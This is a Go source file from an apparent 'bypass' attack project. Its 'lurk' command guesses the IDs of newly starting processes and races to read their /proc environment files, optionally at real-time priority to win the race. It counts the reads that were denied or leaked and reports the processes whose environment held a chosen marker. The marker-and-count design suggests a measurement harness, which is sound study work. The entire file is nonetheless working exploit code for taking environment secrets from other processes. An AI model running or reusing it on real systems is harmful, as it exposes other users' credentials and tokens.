package attack

import (
	"bytes"
	"flag"
	"time"

	"golang.org/x/sys/unix"

	"svc.example/bypass/internal/kernel"
	"svc.example/bypass/internal/report"
)

const (
	// perNewcomer attempts on each process, the first as it becomes visible.
	perNewcomer = 16
	// missesBetweenLooks at the number given out last: others may have taken those that are waited for.
	missesBetweenLooks = 64
)

type lurked struct {
	Seen   int `json:"seen"`
	Leaked int `json:"-"`
	Denied int `json:"denied"`
}

// lurk tries the environ of every process from its first moment on, until standard input closes, and tells at once
// which it got: without pause, or urgently, where it takes the processor from who is about to make the process.
func lurk(arguments []string) error {
	flags := flag.NewFlagSet("lurk", flag.ExitOnError)
	marker := flags.String("marker", "", "what to look for")
	urgent := flags.Bool("urgent", false, "with real-time priority, on the first processor")
	_ = flags.Parse(arguments)
	if *urgent {
		if err := hurry(); err != nil {
			return err
		}
	}
	closed := report.Closed()
	report.Line(map[string]bool{"ready": true})
	var result lurked
	got := make([]byte, 64<<10)
	next := kernel.NewestPID() + 1
	for misses := 0; !closed.Load(); {
		if *urgent {
			sleepRaw(time.Duration(100+misses*37%200) * time.Microsecond)
		}
		if result.tryNewcomer(next, got, []byte(*marker)) {
			next++
			misses = 0
		} else if misses++; misses%missesBetweenLooks == 0 {
			next = max(next, kernel.NewestPID()+1)
		}
	}
	report.Line(result)
	return nil
}

// tryNewcomer is false where there is nobody of that number yet.
func (l *lurked) tryNewcomer(pid int, got []byte, marker []byte) bool {
	path, err := unix.BytePtrFromString(kernel.Proc(pid, "environ"))
	if err != nil {
		return false
	}
	clear(got[:len(marker)*2])
	before := l.Leaked
	errno := readRaw(path, got)
	if errno == unix.ENOENT || errno == unix.ESRCH {
		return false
	}
	l.Seen++
	for range perNewcomer {
		if errno == unix.EACCES {
			l.Denied++
		} else if errno == 0 && bytes.Contains(got, marker) {
			l.Leaked++
			clear(got)
		}
		errno = readRaw(path, got)
	}
	if l.Leaked > before {
		report.Line(map[string]int{"got": pid})
	}
	return true
}
